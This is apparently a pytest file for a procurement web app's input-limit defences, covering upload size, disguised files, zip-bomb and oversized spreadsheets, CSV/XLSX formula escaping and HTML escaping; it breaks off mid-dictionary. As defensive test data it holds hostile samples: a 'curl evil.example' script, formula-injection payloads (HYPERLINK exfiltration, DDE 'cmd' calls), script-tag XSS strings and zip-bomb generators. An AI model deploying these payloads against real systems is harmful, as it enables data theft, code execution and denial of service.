"""Input limits: the request-size limit, uploads checked by their content, tables that are small
on the wire but huge once read (refused with the limit they break, in bounded memory), formula
escaping in every export, and names holding HTML shown as text in every page and in the PDF.

Memory is measured in process around the request alone (the body is built before): the peak
resident size over the one at the request's start (Linux's VmHWM, reset per request) and the
peak of the Python heap (tracemalloc).
"""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, select

from procure.audit.models import AuditEvent
from procure.disclosures.models import Disclosure, Evidence
from procure.disclosures.tables import FLAT_COLUMNS, MAX_IMPORT_ROWS
from procure.extensions import db
from procure.settings import flask_config, load_settings
from procure.spreadsheets import (
    MAX_COLUMNS,
    MAX_XLSX_SHARED_TEXT_BYTES,
    MAX_XLSX_UNPACKED_BYTES,
    TableReadError,
    read_table,
    write_table,
)
from tests.app.walking import NEED as WALK_NEED
from tests.app.walking import World, default_settings, fill
from tests.conftest import PDF, metric_body, run_cli, valid_document

MB = 1_048_576


def _status_mb(key: str) -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no {key} in /proc/self/status")


class RequestMemory:
    """WSGI middleware: the peak memory of the last request it served, in MB."""

    def __init__(self, wsgi_app):
        self.wsgi_app = wsgi_app
        self.rss_mb = self.heap_mb = None

    def __call__(self, environ, start_response):
        Path("/proc/self/clear_refs").write_text("5")  # VmHWM := VmRSS
        start = _status_mb("VmRSS")
        tracemalloc.start()
        try:
            body = b"".join(self.wsgi_app(environ, start_response))
        finally:
            self.heap_mb = tracemalloc.get_traced_memory()[1] / MB
            tracemalloc.stop()
            self.rss_mb = _status_mb("VmHWM") - start
        return [body]


@pytest.fixture
def meter(app):
    app.wsgi_app = RequestMemory(app.wsgi_app)
    return app.wsgi_app


def _counts() -> tuple[int, int, int]:
    db.session.commit()
    return tuple(
        db.session.scalar(select(func.count()).select_from(model))
        for model in (Disclosure, Evidence, AuditEvent)
    )


# ---------------------------------------------------------------------------- request size


def test_the_request_size_limit_comes_from_the_setting(tmp_path):
    assert (
        flask_config(load_settings(tmp_path, environ={}), tmp_path)["MAX_CONTENT_LENGTH"] == 20 * MB
    )
    settings = load_settings(tmp_path, environ={"PROCURE_MAX_REQUEST_MB": "3"})
    assert flask_config(settings, tmp_path)["MAX_CONTENT_LENGTH"] == 3 * MB


def test_a_request_over_the_limit_answers_413_and_changes_nothing(app, walk_world):
    w = walk_world
    draft = w.draft()
    w.page_client("vendor")  # signed in before counting (signing in is audited)
    app.config["MAX_CONTENT_LENGTH"] = 1 * MB  # as max_request_mb = 1 sets it
    big_pdf = PDF + b"0" * (2 * MB)
    before = _counts()
    api = w.call(
        "vendor",
        "POST",
        f"/api/v1/disclosures/{draft['id']}/evidence",
        {"section": "wages", "level": "self_reported", "file": (io.BytesIO(big_pdf), "big.pdf")},
    )
    assert api.status_code == 413 and api.is_json
    assert api.json == {
        "code": 413,
        "status": "Request Entity Too Large",
        "message": api.json["message"],
    }
    assert "too large" in api.json["message"].lower() or "exceeds" in api.json["message"].lower()
    big_json = w.call(
        "buyer", "POST", "/api/v1/needs", {"title": "x" * (2 * MB), "service_category": "seo"}
    )
    assert big_json.status_code == 413 and big_json.json["code"] == 413
    for path, body in (
        (
            f"/disclosures/{draft['id']}/evidence",
            {
                "section": "wages",
                "level": "self_reported",
                "file": (io.BytesIO(big_pdf), "big.pdf"),
            },
        ),
        ("/vendor/disclosures", {"period_start": "2001-01-01", "period_end": "x" * (2 * MB)}),
    ):
        page = w.call("vendor", "POST", path, body)
        assert page.status_code == 413 and page.mimetype == "text/html", path
        assert "<!doctype html>" in page.text and "413" in page.text
    assert _counts() == before


# ---------------------------------------------------------------------------- uploads by content

DISGUISED = {
    "an HTML page named .pdf": (
        "payroll.pdf",
        b"<!doctype html><html><script>alert(1)</script></html>",
    ),
    "a Windows program named .pdf": (
        "payroll.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 64,
    ),
    "a Linux program named .png": ("chart.png", b"\x7fELF\x02\x01\x01\x00" + b"\0" * 64),
    "an SVG with a script named .png": (
        "chart.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    "a PDF named .jpg": ("photo.jpg", PDF),
    "a ZIP of other files named .xlsx": ("table.xlsx", None),
    "an HTML page named .csv": (
        "table.csv",
        b"<html><body><p>headcount, wages</p><script>a(1,2)</script></body></html>",
    ),
    "a shell script named .csv": ("table.csv", b"#!/bin/sh\necho a,b\ncurl evil.example,x\n"),
}


def _zip_of_other_files() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("[Content_Types].xml", "<Types/>")
    return buffer.getvalue()


@pytest.mark.parametrize("kind", list(DISGUISED))
def test_an_upload_is_judged_by_its_content(app, walk_world, kind):
    w = walk_world
    name, content = DISGUISED[kind]
    content = content if content is not None else _zip_of_other_files()
    draft = w.draft()
    w.page_client("vendor")  # signed in before counting (signing in is audited)
    before = _counts()
    upload = {"section": "wages", "level": "self_reported", "file": (io.BytesIO(content), name)}
    api = w.call("vendor", "POST", f"/api/v1/disclosures/{draft['id']}/evidence", dict(upload))
    assert api.status_code == 422, api.json
    extension = name.rsplit(".", 1)[1]
    assert list(api.json["errors"]) == ["file"]
    assert api.json["errors"]["file"][0].startswith(
        f"The file is named .{extension} but its content is"
    )
    page = w.call(
        "vendor",
        "POST",
        f"/disclosures/{draft['id']}/evidence",
        {**upload, "file": (io.BytesIO(content), name)},
    )
    assert page.status_code == 422
    assert str(escape(api.json["errors"]["file"][0])) in page.text
    assert _counts() == before
    assert not list((Path(app.instance_path) / "evidence").glob("*"))


def test_genuine_files_of_every_type_are_accepted(app, walk_world):
    w = walk_world
    draft = w.draft()
    table = write_table([{"a": 1, "b": "x"}], ["a", "b"], "xlsx")
    files = {
        "payroll.pdf": PDF,
        "chart.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 32,
        "photo.jpeg": b"\xff\xd8\xff\xe0" + b"\0" * 32,
        "roster.csv": b"name,hours\nA,40\n",
        "roster.xlsx": table,
    }
    for name, content in files.items():
        response = w.call(
            "vendor",
            "POST",
            f"/api/v1/disclosures/{draft['id']}/evidence",
            {"section": "wages", "level": "self_reported", "file": (io.BytesIO(content), name)},
        )
        assert response.status_code == 201, (name, response.json)


# ---------------------------------------------------------------------------- huge tables

HEADER = ",".join(FLAT_COLUMNS).encode()


def million_row_csv() -> bytes:
    """1,000,000 rows that hold only a vendor id: 6.9 MB."""
    return HEADER + b"\n" + b"\n".join(b"%d" % i for i in range(1_000_000)) + b"\n"


def _workbook(write_sheet, shared_text: bytes | None = None) -> bytes:
    """An XLSX made from this service's own export, with its sheet XML written by
    `write_sheet(stream)` (streamed into the ZIP, never held whole) and optional shared text."""
    template = zipfile.ZipFile(io.BytesIO(write_table([], FLAT_COLUMNS, "xlsx")))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in template.infolist():
            if member.filename == "xl/worksheets/sheet1.xml":
                with archive.open(member.filename, "w") as stream:
                    stream.write(
                        b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns='
                        b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                    )
                    write_sheet(stream)
                    stream.write(b"</sheetData></worksheet>")
            else:
                part = template.read(member.filename)
                if shared_text is not None:  # declared where openpyxl looks for it
                    part = part.replace(
                        b"</Types>",
                        b'<Override PartName="/xl/sharedStrings.xml" ContentType='
                        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.'
                        b'sharedStrings+xml"/></Types>',
                    )
                    part = part.replace(
                        b"</Relationships>",
                        b'<Relationship Id="rId99" Type="http://schemas.openxml'
                        b'formats.org/officeDocument/2006/relationships/sharedStrings" '
                        b'Target="sharedStrings.xml"/></Relationships>',
                    )
                archive.writestr(member.filename, part)
        if shared_text is not None:
            archive.writestr("xl/sharedStrings.xml", shared_text)
    return buffer.getvalue()


def _header_row(stream) -> None:
    cells = b"".join(
        b'<c t="inlineStr"><is><t>%s</t></is></c>' % column.encode() for column in FLAT_COLUMNS
    )
    stream.write(b'<row r="1">' + cells + b"</row>")


def million_row_xlsx() -> bytes:
    """1,000,000 rows of one number each: 60 MB of sheet XML in a 5 MB file."""

    def rows(stream):
        _header_row(stream)
        for start in range(2, 1_000_002, 10_000):
            stream.write(
                b"".join(
                    b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i)
                    for i in range(start, start + 10_000)
                )
            )

    return _workbook(rows)


def zip_bomb_xlsx() -> bytes:
    """One cell of 1 GB of text, compressed to about 1 MB: unpacking it is the attack."""

    def rows(stream):
        _header_row(stream)
        stream.write(b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
        chunk = b"A" * MB
        for _ in range(1024):
            stream.write(chunk)
        stream.write(b"</t></is></c></row>")

    return _workbook(rows)


def shared_text_bomb_xlsx() -> bytes:
    """Two rows, but 1,500,000 different shared texts (28 MB unpacked, 4 MB zipped) that openpyxl
    would hold in memory whole."""
    count = 1_500_000
    shared = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
        % (count, count)
        + b"".join(b"<si><t>%d</t></si>" % i for i in range(count))
        + b"</sst>"
    )
    return _workbook(_header_row, shared_text=shared)


def wide_csv() -> bytes:
    """A header of 1,000,000 columns (7.5 MB): pandas took minutes and gigabytes on it."""
    return b",".join(b"c%d" % i for i in range(1_000_000)) + b"\n1\n"


HUGE_TABLES = {
    "a CSV of 1,000,000 rows": (million_row_csv, "rows.csv", f"more than {MAX_IMPORT_ROWS:,} rows"),
    "an XLSX of 1,000,000 rows": (
        million_row_xlsx,
        "rows.xlsx",
        f"more than {MAX_IMPORT_ROWS:,} rows",
    ),
    "an XLSX that unpacks to 1 GB": (
        zip_bomb_xlsx,
        "bomb.xlsx",
        f"the limit is {MAX_XLSX_UNPACKED_BYTES // MB} MB",
    ),
    "an XLSX of 1.5 million shared texts": (
        shared_text_bomb_xlsx,
        "text.xlsx",
        f"the limit is {MAX_XLSX_SHARED_TEXT_BYTES // MB} MB",
    ),
    "a CSV of 1,000,000 columns": (wide_csv, "wide.csv", f"at most {MAX_COLUMNS}"),
}
# Peak memory of one refused import, in MB, whatever the file. Measured: the Python heap peaks at
# 21 MB (the CSV of a million rows, read to its 50,001st row), 13 MB (the XLSX of a million
# rows), 8 MB (a million columns), 1 MB (the bombs); the resident size grows by at most 27 MB.
# Before the limits: the XLSX of a million rows took 35 s and a 99 MB heap, the 1 GB bomb 22 s
# and 2.2 GB, a million columns 36 s and 1.1 GB, 1.5 million shared texts 16 s and 240 MB.
MEMORY_BOUND_MB = 48


@pytest.mark.parametrize("kind", list(HUGE_TABLES))
def test_a_huge_table_is_refused_with_its_limit_in_bounded_memory(app, walk_world, meter, kind):
    w = walk_world
    make, name, limit = HUGE_TABLES[kind]
    content = make()
    assert len(content) < 20 * MB  # under the request limit: the table limits must catch it
    w.call("vendor", "GET", "/disclosures/table")  # templates and imports loaded before measuring
    before = _counts()
    api = w.call(
        "vendor", "POST", "/api/v1/disclosures/import", {"file": (io.BytesIO(content), name)}
    )
    assert api.status_code == 422, api.text[:300]
    assert list(api.json["errors"]) == ["file"] and limit in api.json["errors"]["file"][0], api.json
    figures = (
        f"{kind} ({len(content) / MB:.1f} MB): peak RSS +{meter.rss_mb:.0f} MB, "
        f"heap {meter.heap_mb:.0f} MB"
    )
    assert meter.rss_mb < MEMORY_BOUND_MB and meter.heap_mb < MEMORY_BOUND_MB, figures
    page = w.call("vendor", "POST", "/disclosures/table", {"file": (io.BytesIO(content), name)})
    assert page.status_code == 422 and str(escape(limit)) in page.text
    assert meter.rss_mb < MEMORY_BOUND_MB, figures
    assert _counts() == before


def test_sheet_rows_and_cells_are_counted_with_or_without_prefixes_across_chunks():
    """The XLSX sizing counts tags in 1 MB chunks: a tag cut by a chunk boundary counts once."""
    from procure.spreadsheets import _refuse_large_sheet

    def sheet(rows: int, cells: int, prefix: bytes = b"") -> io.BytesIO:
        row = (
            b'<%srow r="1">' % prefix
            + b'<%sc r="A1"><%sv>1</%sv></%sc>' % ((prefix,) * 4) * cells
            + b"</%srow>" % prefix
        )
        padding = b" " * (MB - 7)  # puts tags across the chunk boundary
        return io.BytesIO(padding + row * rows)

    for prefix in (b"", b"x:"):
        _refuse_large_sheet(sheet(11, MAX_COLUMNS, prefix), max_rows=10)  # header + 10 rows: fine
        with pytest.raises(TableReadError, match="more than 10 rows"):
            _refuse_large_sheet(sheet(12, 1, prefix), max_rows=10)
        with pytest.raises(TableReadError, match=f"more than {MAX_COLUMNS} cells"):
            _refuse_large_sheet(sheet(1, MAX_COLUMNS + 1, prefix), max_rows=10)


def test_the_csv_header_is_counted_by_its_cells_in_constant_memory():
    from procure.spreadsheets import _refuse_wide_csv

    quoted_commas = (
        b",".join(b'"a,%d"' % i for i in range(MAX_COLUMNS)) + b"\n"
    )  # 200 cells, 400 commas
    _refuse_wide_csv(quoted_commas)
    with pytest.raises(TableReadError, match=f"more than {MAX_COLUMNS} columns"):
        _refuse_wide_csv(quoted_commas.rstrip() + b',"x ""y"""\n')
    Path("/proc/self/clear_refs").write_text("5")
    start = _status_mb("VmRSS")
    _refuse_wide_csv(b'"' + b'""' * 9_000_000 + b'",b\n')  # one cell of 18 MB of quotes
    assert _status_mb("VmHWM") - start < 20  # a backtracking pattern took 1 GB here


def test_tables_within_the_limits_still_read():
    rows = [{c: i for c in FLAT_COLUMNS} for i in range(3)]
    for fmt in ("csv", "xlsx"):
        read = read_table(write_table(rows, FLAT_COLUMNS, fmt), f"t.{fmt}", max_rows=3)
        assert [int(float(r["vendor_id"])) for r in read] == [0, 1, 2]
        with pytest.raises(TableReadError, match="more than 2 rows"):
            read_table(write_table(rows, FLAT_COLUMNS, fmt), f"t.{fmt}", max_rows=2)


def _workbook_of_sheets(*sheets: tuple[str, int], listed_in_reverse: bool = False) -> bytes:
    """A workbook with one sheet per (title, data rows), each with a header row `vendor_id`; its
    members are sheet1.xml, sheet2.xml, ... in the given order, and `listed_in_reverse` lists
    them the other way round in xl/workbook.xml (the list decides which sheet is first)."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        sheet.append(["vendor_id"])
        for row in range(rows):
            sheet.append([f"{title} {row}"])
    buffer = io.BytesIO()
    book.save(buffer)
    if not listed_in_reverse:
        return buffer.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/workbook.xml":
                listed = re.findall(rb"<sheet [^>]*/>", data)
                data = data.replace(b"".join(listed), b"".join(reversed(listed)))
            target.writestr(member, data)
    return out.getvalue()


def test_only_the_sheet_that_is_read_counts_towards_the_row_limit():
    """Only the first sheet is read: a long lookup list on another sheet used to be counted, and
    the workbook refused. 'First' is the workbook's list of sheets, not the member names."""
    from procure.spreadsheets import _refuse_large_workbook

    small_then_long = _workbook_of_sheets(("Table", 2), ("Lookup", 10))
    _refuse_large_workbook(small_then_long, max_rows=3)
    assert read_table(small_then_long, "t.xlsx", max_rows=3) == [
        {"vendor_id": "Table 0"},
        {"vendor_id": "Table 1"},
    ]
    long_then_small = _workbook_of_sheets(("Lookup", 10), ("Table", 2))
    with pytest.raises(TableReadError, match="more than 3 rows"):
        _refuse_large_workbook(long_then_small, max_rows=3)
    # the long list is member sheet1.xml but listed second: the table (sheet2.xml) is read, and
    # counted
    listed_first = _workbook_of_sheets(("Lookup", 10), ("Table", 2), listed_in_reverse=True)
    _refuse_large_workbook(listed_first, max_rows=3)
    assert read_table(listed_first, "t.xlsx", max_rows=3) == [
        {"vendor_id": "Table 0"},
        {"vendor_id": "Table 1"},
    ]
    listed_second = _workbook_of_sheets(("Table", 2), ("Lookup", 10), listed_in_reverse=True)
    with pytest.raises(TableReadError, match="more than 3 rows"):
        _refuse_large_workbook(listed_second, max_rows=3)


GOLDEN_VENDORS = Path(__file__).resolve().parents[1] / "data" / "scoring" / "golden_vendors.csv"


def test_score_refuses_a_million_vendors_in_bounded_memory(tmp_path, monkeypatch):
    header, row = GOLDEN_VENDORS.read_text().splitlines()[:2]
    rest = row.split(",", 1)[1]
    path = tmp_path / "vendors.csv"
    with path.open("w") as handle:  # 1,000,000 vendors, 138 MB: scoring them took 1.5 GB and 39 s
        handle.write(header + "\n")
        for start in range(0, 1_000_000, 10_000):
            handle.write("".join(f"V{i},{rest}\n" for i in range(start, start + 10_000)))
    Path("/proc/self/clear_refs").write_text("5")
    start = _status_mb("VmRSS")
    result = run_cli(["score", str(path)], tmp_path, monkeypatch)
    rss = _status_mb("VmHWM") - start
    assert result.exit_code == 2
    assert result.output.strip().endswith(
        f"{path}: row 100002: the file has more than 100,000 vendors; score it in parts"
    )
    assert rss < 200, f"peak RSS +{rss:.0f} MB"


# ---------------------------------------------------------------------------- names in records


def named_world(w: World, names: dict[str, str]) -> dict:
    """Records of every kind whose user-written texts are `names[kind]`: the vendor's profile and
    a submitted disclosure (site, wage sources, other category), a need, a custom metric (label,
    source) weighed by a scoring profile, an approved scenario (with its decision comment) solved
    with that profile, the buyer organization and the approving executive, a rejected
    disclosure's review comment, an API token and an invitation's message. Returns the ids (the
    invitation link's secret as `token`)."""
    vendor = w.api("vendor", "GET", f"/api/v1/vendors/{w.vendor.id}")
    w.api(
        "vendor",
        "PATCH",
        f"/api/v1/vendors/{w.vendor.id}",
        json={
            "name": names["vendor"],
            "version": vendor["version"],
            "sites": [{"name": names["site"], "city": "Nairobi", "country": "KE"}],
        },
    )
    document = valid_document("2025-01-01", "2025-12-31")
    document["wages"][0].update(
        site=names["site"], minimum_wage_source=names["source"], living_wage_source=names["source"]
    )
    document["workforce"]["categories"]["other"] = 1
    document["workforce"]["categories"]["youth_neet"] -= 1
    document["workforce"]["other_category_label"] = names["category"]
    latest = w.api("vendor", "GET", "/api/v1/disclosures?state=submitted")[0]
    amended = w.api("vendor", "POST", f"/api/v1/disclosures/{latest['id']}/amend")
    w.api(
        "vendor",
        "PATCH",
        f"/api/v1/disclosures/{amended['id']}",
        json={
            "edit_version": amended["edit_version"],
            **{k: document[k] for k in ("workforce", "wages")},
        },
    )
    disclosure = w.api("vendor", "POST", f"/api/v1/disclosures/{amended['id']}/submit")
    rejected = w.submitted_disclosure()
    w.api(
        "buyer",
        "POST",
        f"/api/v1/disclosures/{rejected['id']}/review",
        json={"decision": "rejected", "comment": names["comment"]},
    )
    need = w.api("buyer", "POST", "/api/v1/needs", json={**WALK_NEED, "title": names["need"]})
    metric = w.api(
        "buyer",
        "POST",
        "/api/v1/metrics",
        json=metric_body("named_metric", label=names["metric"], source=names["source"]),
    )
    settings = default_settings()
    settings["metric_weights"] = {**settings["metric_weights"], "named_metric": 0.05}
    settings["metric_weights"]["impact_worker_share"] -= 0.05
    profile = w.api(
        "buyer",
        "POST",
        "/api/v1/scoring-profiles",
        json={"name": names["profile"], "settings": settings},
    )
    buyer, executive = w.users["buyer"], w.users["executive"]
    buyer.organization.name, executive.name = names["organization"], names["person"]
    db.session.commit()
    scenarios = [
        w.api(
            "buyer",
            "POST",
            "/api/v1/scenarios",
            json={"name": name, "need_ids": [need["id"]], "profile_id": profile["id"]},
        )
        for name in (names["scenario"], "Plain plan")
    ]
    scenario = scenarios[0]
    w.api("buyer", "POST", f"/api/v1/scenarios/{scenario['id']}/submit")
    w.api(
        "executive",
        "POST",
        f"/api/v1/scenarios/{scenario['id']}/decision",
        json={"decision": "approved", "comment": names["decision"]},
    )
    w.call("vendor", "POST", "/account", {"name": names["token"]})
    invitation = w.api(
        "buyer",
        "POST",
        "/api/v1/invitations",
        json={"email": "named@vendor.example", "message": names["comment"]},
    )
    rate = w.api(
        "operator",
        "POST",
        "/api/v1/exchange-rates",
        json={
            "currency": "CAD",
            "effective_date": "2025-12-31",
            "usd_per_unit": 0.73,
            "source": names["source"],
        },
    )
    category = w.api(
        "operator",
        "POST",
        "/api/v1/service-categories",
        json={"key": "named_work", "label": names["service"], "unit": "task"},
    )
    campaign = w.api(
        "buyer",
        "POST",
        "/api/v1/campaigns",
        json={
            "title": names["campaign"],
            "message": names["comment"],
            "year": 2030,
            "deadline": "2999-12-31",
            "vendor_ids": [w.vendor.id],
        },
    )
    event = w.api(
        "buyer",
        "POST",
        "/api/v1/events",
        json={
            "title": names["campaign"],
            "message": names["comment"],
            "need_ids": [need["id"]],
            "vendor_ids": [w.vendor.id],
            "deadline": "2999-12-31T00:00:00Z",
        },
    )
    w.api("buyer", "POST", f"/api/v1/events/{event['id']}/publish", json={"version": 1})
    grant_id = _assured(w, names, disclosure["id"])
    plan = w.api(  # a corrective action plan whose note and answer are the comment
        "buyer",
        "POST",
        "/api/v1/corrective-plans",
        json={
            "vendor_id": w.vendor.id,
            "metric": "impact_worker_share",
            "target": 0.99,
            "due_on": "2999-12-31",
            "note": names["comment"],
        },
    )
    w.api(
        "vendor",
        "POST",
        f"/api/v1/corrective-plans/{plan['id']}/answers",
        json={"actions": [{"text": names["comment"], "on": "2999-01-01"}]},
    )
    return {
        **_coalition_named(w, names),
        "plan_id": plan["id"],
        "event_id": event["id"],
        "lot_id": event["lots"][0]["id"],
        "grant_id": grant_id,
        "campaign_id": campaign["id"],
        "rate_id": rate["id"],
        "category_id": category["id"],
        "token": invitation["link"].rsplit("/", 1)[1],  # the invitation link's secret
        "vendor_id": w.vendor.id,
        "disclosure_id": disclosure["id"],
        "rejected_id": rejected["id"],
        "need_id": need["id"],
        "profile_id": profile["id"],
        "scenario_id": scenario["id"],
        "other_scenario_id": scenarios[1]["id"],
        "metric_id": metric["id"],
        "user_id": executive.id,
    }


KINDS = (
    "vendor",
    "site",
    "source",
    "category",
    "comment",
    "need",
    "metric",
    "profile",
    "organization",
    "person",
    "scenario",
    "decision",
    "token",
    "campaign",
    "service",  # a service category's label
)


# ---------------------------------------------------------------------------- formula escaping

FORMULA_STARTS = ("=", "+", "-", "@")


def formula_names() -> dict[str, str]:
    """A text for every kind of record, starting with each of = + - @ in turn."""
    bodies = (
        'HYPERLINK("http://evil.example/?q="&A1,"Click")',
        "cmd|' /C calc'!A0",
        "2+3+cmd|' /C notepad'!A0",
        "SUM(1+1)*cmd|' /C calc'!A0",
    )
    return {kind: f"{FORMULA_STARTS[i % 4]}{bodies[i % 4]} {kind}" for i, kind in enumerate(KINDS)}


def _xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    book = load_workbook(io.BytesIO(content))  # formulas as written, not their cached values
    return [
        (
            f"{sheet.title}!{cell.coordinate}",
            "=formula " + str(cell.value) if cell.data_type == "f" else cell.value,
        )
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _csv_cells(content: bytes) -> list[tuple[str, object]]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [
        (f"row {r} column {c}", value)
        for r, row in enumerate(rows, 1)
        for c, value in enumerate(row, 1)
    ]


def _would_run(value: object) -> bool:
    """A text cell that a spreadsheet would read as a formula (a number such as -2.5 is fine)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def test_every_export_escapes_cells_that_would_run_as_formulas(
    app, walk_world, tmp_path, monkeypatch
):
    w = walk_world
    names = formula_names()
    ids = named_world(w, names)
    exports = {
        "scenario XLSX pack": ("buyer", f"/api/v1/scenarios/{ids['scenario_id']}/export.xlsx"),
        "disclosure table CSV (API)": ("buyer", "/api/v1/disclosures/export?format=csv"),
        "disclosure table XLSX (API)": (
            "vendor",
            "/api/v1/disclosures/export?format=xlsx&latest_period=true",
        ),
        "disclosure table CSV (page)": ("vendor", "/disclosures/table/export.csv"),
        "disclosure table XLSX (page)": ("buyer", "/disclosures/table/export.xlsx?latest_period=1"),
        "campaign status CSV (API)": (
            "buyer",
            f"/api/v1/campaigns/{ids['campaign_id']}/status.csv",
        ),
        "campaign status CSV (page)": ("buyer", f"/campaigns/{ids['campaign_id']}/status.csv"),
    }
    running, reached = [], set()
    for label, (actor, url) in exports.items():
        response = w.call(actor, "GET", url)
        assert response.status_code == 200, (label, response.text[:200])
        cells = _xlsx_cells(response.data) if "XLSX" in label else _csv_cells(response.data)
        running += [f"{label} {where}: {value!r}" for where, value in cells if _would_run(value)]
        reached |= {
            kind
            for kind, name in names.items()
            for _, value in cells
            if isinstance(value, str) and name in value
        }
    # `procure score`: the vendor ids are the file's own text
    ids_in_file = [f"{start}V{i}" for i, start in enumerate(FORMULA_STARTS)]
    lines = GOLDEN_VENDORS.read_text().splitlines()
    vendors = tmp_path / "vendors.csv"
    vendors.write_text(
        "\n".join(
            [lines[0]]
            + [
                f"{id_},{line.split(',', 1)[1]}"
                for id_, line in zip(ids_in_file, lines[1:], strict=False)
            ]
        )
        + "\n"
    )
    scored = run_cli(
        ["score", str(vendors), "-o", str(tmp_path / "scores.csv")], tmp_path, monkeypatch
    )
    assert scored.exit_code == 0, scored.output
    cells = _csv_cells((tmp_path / "scores.csv").read_bytes())
    running += [f"procure score {where}: {value!r}" for where, value in cells if _would_run(value)]
    assert sorted(
        value for where, value in cells if where.endswith("column 1") and where != "row 1 column 1"
    ) == sorted("'" + id_ for id_ in ids_in_file)
    assert running == [], f"{len(running)} cells would run as formulas:\n" + "\n".join(running)
    # the texts that reach the scenario pack did reach it (escaped), so the check above saw them
    assert {
        "vendor",
        "need",
        "metric",
        "profile",
        "organization",
        "person",
        "scenario",
        "decision",
    } <= reached, reached


# ---------------------------------------------------------------------------- names holding HTML


def html_names() -> dict[str, str]:
    return {kind: f"<script>alert('{kind}')</script><b>{kind}</b>" for kind in KINDS}


def _coalition_named(w: World, names: dict[str, str]) -> dict:
    """A coalition named like the campaign (its charter, a target and an announcement the
    comment) of a backbone named after the organization, which the buyer organization joined;
    its id and its target's."""
    from procure.accounts.models import Organization

    backbone = Organization(name=f"{names['organization']} Backbone", kind="backbone")
    db.session.add(backbone)
    db.session.commit()
    w.users["coordinator"] = w._make_user("coordinator", organization=backbone)
    w.headers["coordinator"] = w._bearer(w.users["coordinator"])
    period = {"period_start": "2025-01-01", "period_end": "2027-12-31"}
    coalition = w.api(
        "coordinator",
        "POST",
        "/api/v1/coalitions",
        json={"name": names["campaign"], "charter": names["comment"], **period},
    )
    path = f"/api/v1/coalitions/{coalition['id']}"
    target = w.api(
        "coordinator",
        "POST",
        f"{path}/targets",
        json={"measure": "impact_worker_hours", "value": 100, "label": names["comment"], **period},
    )
    organization_id = w.users["buyer"].organization_id
    w.api("coordinator", "POST", f"{path}/members", json={"organization_id": organization_id})
    w.api("executive", "POST", f"{path}/membership/accept")
    w.api("coordinator", "POST", f"{path}/posts", json={"text": names["comment"]})
    return {"coalition_id": coalition["id"], "target_id": target["id"]}


def _assured(w: World, names: dict[str, str], disclosure_id: int) -> int:
    """The disclosure shared with an assurance provider (an organization name), whose assurer
    attested its wages under a named standard (a source); the grant's id."""
    from procure.accounts.models import Organization

    provider = Organization(name=f"{names['organization']} Assurance", kind="assurance")
    db.session.add(provider)
    db.session.commit()
    w.users["assurer"] = w._make_user("assurer", organization=provider)
    w.headers["assurer"] = w._bearer(w.users["assurer"])
    grant = w.api(
        "vendor",
        "POST",
        "/api/v1/assurance-grants",
        json={"disclosure_id": disclosure_id, "provider_id": provider.id},
    )
    today = date.today()
    w.api(
        "assurer",
        "POST",
        "/api/v1/attestations",
        data={
            "disclosure_id": str(disclosure_id),
            "section": "wages",
            "standard": names["source"],
            "level": "limited",
            "opinion": "unqualified",
            "issued_on": today.isoformat(),
            "expires_on": today.replace(year=today.year + 2).isoformat(),
            "file": (io.BytesIO(PDF), "statement.pdf"),
        },
        content_type="multipart/form-data",
    )
    return grant["id"]


PAGE_ACTORS = ("vendor", "buyer", "executive", "admin", "assurer")
SKIPPED_PAGES = {
    "/static/<path:filename>",
    "/healthz",
    "/healthz/live",
    "/healthz/ready",
    "/healthz/broker",
    "/disclosures/table/export.<fmt>",
    "/campaigns/<int:campaign_id>/status.csv",
    "/sign-in",
}
# pages that must show a name (escaped), so the crawl is known to have looked at it
SHOWN = {
    ("vendor", "/vendor/profile"): {"vendor", "site", "service"},
    ("vendor", "/disclosures/<int:disclosure_id>"): {"site", "source", "category"},
    ("vendor", "/vendor/disclosures"): set(),
    ("vendor", "/account"): {"token"},
    ("buyer", "/vendors"): {"vendor"},
    ("buyer", "/vendors/<int:vendor_id>"): {"vendor", "site"},
    # the scorecard names the attestation of the wages (its provider and standard)
    ("buyer", "/vendors/<int:vendor_id>/scorecard"): {"vendor", "metric", "profile", "source"},
    ("buyer", "/scores"): {"vendor", "profile"},
    ("buyer", "/needs"): {"need", "service"},
    ("buyer", "/needs/<int:need_id>"): {"need"},
    ("buyer", "/metrics"): {"metric", "source"},
    ("buyer", "/profiles"): {"profile"},
    ("buyer", "/profiles/<int:profile_id>"): {"profile", "metric"},
    ("buyer", "/scenarios"): {"scenario", "need", "profile"},
    ("buyer", "/scenarios/<int:scenario_id>"): {"scenario", "vendor", "need", "person", "decision"},
    ("buyer", "/scenarios/compare"): {"scenario", "vendor"},
    ("buyer", "/"): {"scenario", "organization"},
    ("buyer", "/disclosures/<int:disclosure_id>"): {"vendor", "site", "source", "category"},
    ("vendor", "a rejected disclosure"): {"comment"},
